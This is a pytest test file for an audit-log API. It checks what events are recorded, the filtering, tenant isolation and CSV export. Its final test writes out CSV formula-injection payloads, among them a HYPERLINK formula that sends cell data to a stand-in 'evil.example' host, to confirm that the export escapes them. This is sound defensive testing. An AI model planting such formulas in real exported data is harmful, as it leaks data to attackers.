"""The audit log: every change and security event leaves a row; tenant admins read and export it."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, datetime, timedelta

import pytest

LOGS = "/api/v1/audit/logs"
EXPORT = "/api/v1/audit/logs/export"
CLIENT_ADDRESS = "203.0.113.7"  # the address of the root fixtures' clients
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def error_fields(response) -> list[str]:
    return [detail["field"] for detail in response.json()["details"] or []]


def cid() -> str:
    return f"test-{uuid.uuid4().hex}"


async def entries(org, **filters) -> list[dict]:
    response = await org.owner.client.get(LOGS, params={"limit": 200, **filters})
    assert response.status_code == 200, response.text
    return response.json()["items"]


async def entry_for(org, correlation_id: str) -> dict:
    """The one row a request with this correlation id left."""
    rows = [row for row in await entries(org) if row["correlation_id"] == correlation_id]
    assert len(rows) == 1, rows
    return rows[0]


def assert_traced(row: dict, correlation_id: str) -> None:
    assert row["client_address"] == CLIENT_ADDRESS
    assert row["correlation_id"] == correlation_id


# --- what is recorded -------------------------------------------------------------------------


async def test_sign_in_success_and_failure_are_recorded(org, anon):
    ok, bad = cid(), cid()
    await anon.post(
        "/api/v1/users/login/token/",
        data={"username": org.owner.email, "password": org.owner.password},
        headers={"X-Correlation-ID": ok},
    )
    await anon.post(
        "/api/v1/users/login/token/",
        data={"username": org.owner.email, "password": "not-the-password"},
        headers={"X-Correlation-ID": bad},
    )
    success = await entry_for(org, ok)
    assert success["action"] == "auth.login"
    assert success["outcome"] == "success"
    assert success["actor_id"] == str(org.owner.id)
    assert success["actor_type"] == "user"
    assert_traced(success, ok)
    failure = await entry_for(org, bad)
    assert failure["action"] == "auth.login"
    assert failure["outcome"] == "failure"
    assert failure["changes"] == {"reason": "wrong_credentials"}
    assert failure["actor_id"] == str(org.owner.id)
    assert "not-the-password" not in json.dumps(failure)
    assert_traced(failure, bad)


async def test_failed_sign_in_of_a_disabled_account_is_recorded_with_the_reason(org, anon):
    person = await org.add_user("member")
    await org.owner.client.patch(f"/api/v1/users/{person.id}", json={"state": "disabled"})
    correlation_id = cid()
    await anon.post(
        "/api/v1/users/login/token/",
        data={"username": person.email, "password": person.password},
        headers={"X-Correlation-ID": correlation_id},
    )
    row = await entry_for(org, correlation_id)
    assert (row["outcome"], row["changes"]) == ("failure", {"reason": "user_disabled"})


async def test_api_key_creation_use_and_revocation_are_recorded(org, anon):
    created_cid, used_cid, revoked_cid = cid(), cid(), cid()
    key = (
        await org.owner.client.post(
            "/api/v1/users/me/api-keys/", json={"name": "ci"}, headers={"X-Correlation-ID": created_cid}
        )
    ).json()
    await anon.get("/api/v1/users/me/", headers={"X-API-Key": key["key"], "X-Correlation-ID": used_cid})
    await org.owner.client.delete(
        f"/api/v1/users/me/api-keys/{key['id']}", headers={"X-Correlation-ID": revoked_cid}
    )

    for correlation_id, action in (
        (created_cid, "api_key.created"),
        (used_cid, "api_key.used"),
        (revoked_cid, "api_key.revoked"),
    ):
        row = await entry_for(org, correlation_id)
        assert row["action"] == action
        assert row["target_type"] == "api_key"
        assert row["target_id"] == key["id"]
        assert row["actor_id"] == str(org.owner.id)
        assert row["changes"]["prefix"] == key["prefix"]
        assert key["key"] not in json.dumps(row)
        assert_traced(row, correlation_id)
    assert (await entry_for(org, used_cid))["actor_type"] == "api_key"


async def test_permission_denied_is_recorded_as_denied(org):
    member = await org.add_user("member")
    correlation_id = cid()
    response = await member.client.get("/api/v1/users/", headers={"X-Correlation-ID": correlation_id})
    assert response.status_code == 403
    row = await entry_for(org, correlation_id)
    assert row["action"] == "permission.denied"
    assert row["outcome"] == "denied"
    assert row["actor_id"] == str(member.id)
    assert row["changes"] == {"path": "/api/v1/users/", "method": "GET", "code": "permission_denied"}
    assert_traced(row, correlation_id)


async def test_changes_to_people_roles_and_groups_are_recorded_with_what_changed(org):
    owner = org.owner.client
    steps = {}

    async def call(label, method, url, **kwargs):
        steps[label] = cid()
        response = await owner.request(method, url, headers={"X-Correlation-ID": steps[label]}, **kwargs)
        assert response.status_code < 300, response.text
        return response.json() if response.content else None

    email = f"audited-{uuid.uuid4().hex[:6]}@{org.slug}.example"
    user = await call("user.created", "POST", "/api/v1/users/", json={"email": email, "name": "Before"})
    await call("user.updated", "PATCH", f"/api/v1/users/{user['id']}", json={"name": "After"})
    role = await call(
        "role.created", "POST", "/api/v1/roles/", json={"name": "Audited", "permissions": ["audit"]}
    )
    await call("role.updated", "PATCH", f"/api/v1/roles/{role['id']}", json={"permissions": []})
    group = await call("group.created", "POST", "/api/v1/groups/", json={"name": "Audited"})
    await call(
        "group.member_added", "POST", f"/api/v1/groups/{group['id']}/members/", json={"user_id": user["id"]}
    )
    await call("group.member_removed", "DELETE", f"/api/v1/groups/{group['id']}/members/{user['id']}")
    await call("group.deleted", "DELETE", f"/api/v1/groups/{group['id']}")
    await call("role.deleted", "DELETE", f"/api/v1/roles/{role['id']}")
    await call("user.deleted", "DELETE", f"/api/v1/users/{user['id']}")

    rows = {label: await entry_for(org, correlation_id) for label, correlation_id in steps.items()}
    for label, row in rows.items():
        assert row["action"] == label
        assert row["outcome"] == "success"
        assert row["actor_id"] == str(org.owner.id)
        assert row["actor_label"] == org.owner.email
        assert_traced(row, steps[label])
    assert rows["user.created"]["changes"] == {"email": email, "role": "Member"}
    assert rows["user.updated"]["changes"] == {"name": {"from": "Before", "to": "After"}}
    assert rows["user.updated"]["target_id"] == user["id"]
    assert rows["role.updated"]["changes"]["permissions"] == {"from": ["audit"], "to": []}
    assert rows["group.member_added"]["changes"] == {"user_id": user["id"]}


async def test_a_refused_change_leaves_no_success_row(org):
    name = f"Once {uuid.uuid4().hex[:6]}"
    await org.owner.client.post("/api/v1/groups/", json={"name": name})
    conflict = await org.owner.client.post(
        "/api/v1/groups/", json={"name": name}, headers={"X-Correlation-ID": cid()}
    )
    assert conflict.status_code == 409
    created = [row for row in await entries(org, action="group.created") if row["changes"] == {"name": name}]
    assert len(created) == 1


async def test_sign_out_and_password_change_are_recorded(org):
    person = await org.add_user("member")
    changed, logged_out = cid(), cid()
    await person.client.post(
        "/api/v1/users/me/password",
        json={"current_password": person.password, "new_password": "another long password"},
        headers={"X-Correlation-ID": changed},
    )
    await person.client.post("/api/v1/auth/logout", headers={"X-Correlation-ID": logged_out})
    assert (await entry_for(org, changed))["action"] == "user.password_changed"
    assert (await entry_for(org, logged_out))["action"] == "auth.logout"


async def test_sysadmin_actions_are_recorded_with_the_sysadmin_as_actor(org, sysadmin):
    created, updated = cid(), cid()
    user = await sysadmin.post(
        "/api/v1/sysadmin/users/",
        json={"email": f"op-{uuid.uuid4().hex[:6]}@{org.slug}.example", "tenant_id": str(org.id)},
        headers={"X-Correlation-ID": created},
    )
    await sysadmin.patch(
        f"/api/v1/sysadmin/tenants/{org.id}/",
        json={"display_name": "Renamed"},
        headers={"X-Correlation-ID": updated},
    )
    for correlation_id, action in ((created, "user.created"), (updated, "tenant.updated")):
        row = await entry_for(org, correlation_id)
        assert row["action"] == action
        assert row["actor_type"] == "sysadmin"
        assert row["actor_id"] is None
        assert_traced(row, correlation_id)
    assert (await entry_for(org, created))["target_id"] == user.json()["id"]
    tenant_created = await entries(org, action="tenant.created")
    assert [row["actor_type"] for row in tenant_created] == ["sysadmin"]


# --- reading and filtering --------------------------------------------------------------------


async def test_log_is_newest_first_and_pages(org):
    for index in range(3):
        await org.owner.client.post("/api/v1/groups/", json={"name": f"Page {index}"})
    rows = await entries(org, action="group.created")
    assert [row["changes"]["name"] for row in rows] == ["Page 2", "Page 1", "Page 0"]
    page = (
        await org.owner.client.get(LOGS, params={"action": "group.created", "limit": 1, "offset": 1})
    ).json()
    assert page["total"] == 3
    assert [row["changes"]["name"] for row in page["items"]] == ["Page 1"]


async def test_filters_narrow_the_log(org):
    member = await org.add_user("member")
    group = (await org.owner.client.post("/api/v1/groups/", json={"name": "Filtered"})).json()
    await member.client.get("/api/v1/users/")

    by_prefix = await entries(org, action="group.")
    assert by_prefix and all(row["action"].startswith("group.") for row in by_prefix)
    by_actor = await entries(org, actor_id=str(member.id))
    assert by_actor and {row["actor_id"] for row in by_actor} == {str(member.id)}
    by_target = await entries(org, target_type="group", target_id=group["id"])
    assert [row["action"] for row in by_target] == ["group.created"]
    denied = await entries(org, outcome="denied")
    assert [row["action"] for row in denied] == ["permission.denied"]
    future = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    assert await entries(org, since=future) == []
    assert await entries(org, until="2000-01-01T00:00:00Z") == []
    assert len(await entries(org, since="2000-01-01T00:00:00Z")) == len(await entries(org))


@pytest.mark.parametrize("action", ["%", "_", "group%"])
async def test_action_filter_treats_wildcards_as_text(org, action):
    await org.owner.client.post("/api/v1/groups/", json={"name": "Wild"})
    assert await entries(org, action=action) == []


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"outcome": "maybe"}, "outcome"),
        ({"actor_id": "someone"}, "actor_id"),
        ({"since": "yesterday"}, "since"),
        ({"until": "soon"}, "until"),
        ({"action": "a" * 65}, "action"),
        ({"limit": 0}, "limit"),
        ({"offset": -1}, "offset"),
    ],
)
async def test_bad_filters_name_the_parameter(org, params, field):
    response = await org.owner.client.get(LOGS, params=params)
    assert response.status_code == 422
    assert error_fields(response) == [field]
    export = await org.owner.client.get(EXPORT, params=params)
    if field not in ("limit", "offset"):
        assert export.status_code == 422
        assert error_fields(export) == [field]


async def test_member_cannot_read_or_export_the_log(org):
    member = await org.add_user("member")
    assert (await member.client.get(LOGS)).status_code == 403
    assert (await member.client.get(EXPORT)).status_code == 403


async def test_admin_reads_the_log(org):
    admin = await org.add_user("admin")
    assert (await admin.client.get(LOGS)).status_code == 200


async def test_log_never_shows_another_organisation(org, other_org):
    await other_org.owner.client.post("/api/v1/groups/", json={"name": "Secret"})
    rows = await entries(org)
    assert rows
    assert {row["tenant_id"] for row in rows} == {str(org.id)}
    other_ids = {str(other_org.id), str(other_org.owner.id)}
    assert not other_ids & ({row["actor_id"] for row in rows} | {row["target_id"] for row in rows})
    export = (await org.owner.client.get(EXPORT)).text
    assert other_org.owner.email not in export
    assert str(other_org.owner.id) not in export
    assert "Secret" not in export


# --- CSV export -------------------------------------------------------------------------------


def read_csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_export_is_a_csv_attachment_with_every_column(org):
    await org.owner.client.post("/api/v1/groups/", json={"name": 'Exported, with "quotes"\nand a newline'})
    response = await org.owner.client.get(EXPORT)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="audit-log.csv"'
    rows = read_csv(response)
    assert list(rows[0]) == [
        "created_at", "actor_type", "actor_label", "actor_id", "action", "target_type",
        "target_id", "outcome", "client_address", "correlation_id", "changes",
    ]  # fmt: skip
    group_row = next(row for row in rows if row["action"] == "group.created")
    assert json.loads(group_row["changes"]) == {"name": 'Exported, with "quotes"\nand a newline'}
    assert group_row["actor_label"] == org.owner.email
    assert group_row["client_address"] == CLIENT_ADDRESS


async def test_export_follows_the_filters_and_is_itself_recorded(org):
    await org.owner.client.post("/api/v1/groups/", json={"name": "Only me"})
    response = await org.owner.client.get(EXPORT, params={"action": "group."})
    assert {row["action"] for row in read_csv(response)} == {"group.created"}
    exported = await entries(org, action="audit.exported")
    assert exported[0]["changes"] == {"filters": {"action": "group."}}


async def test_export_escapes_cells_that_a_spreadsheet_would_run(org, sysadmin, anon):
    hostile = ["=2+5", "+1", "-cmd"]
    signed_in = []
    for local_part in hostile:
        email = f"{local_part}@{org.slug}.example"
        created = await sysadmin.post(
            "/api/v1/sysadmin/users/",
            json={"email": email, "password": "a-long-enough-password", "tenant_id": str(org.id)},
        )
        assert created.status_code == 201, created.text
        login = await anon.post(
            "/api/v1/users/login/token/", data={"username": email, "password": "a-long-enough-password"}
        )
        assert login.status_code == 200
        signed_in.append(email)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    await org.owner.client.get(EXPORT, params={"action": formula[:64]})
    await org.owner.client.get(LOGS, params={"target_id": formula[:64]})

    response = await org.owner.client.get(EXPORT)
    rows = list(csv.reader(io.StringIO(response.text)))
    labels = {row[2] for row in rows}
    for email in signed_in:
        assert "'" + email in labels
        assert email not in labels
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    exported = next(r for r in read_csv(response) if r["action"] == "audit.exported")
    assert json.loads(exported["changes"])["filters"]["action"] == formula[:64]
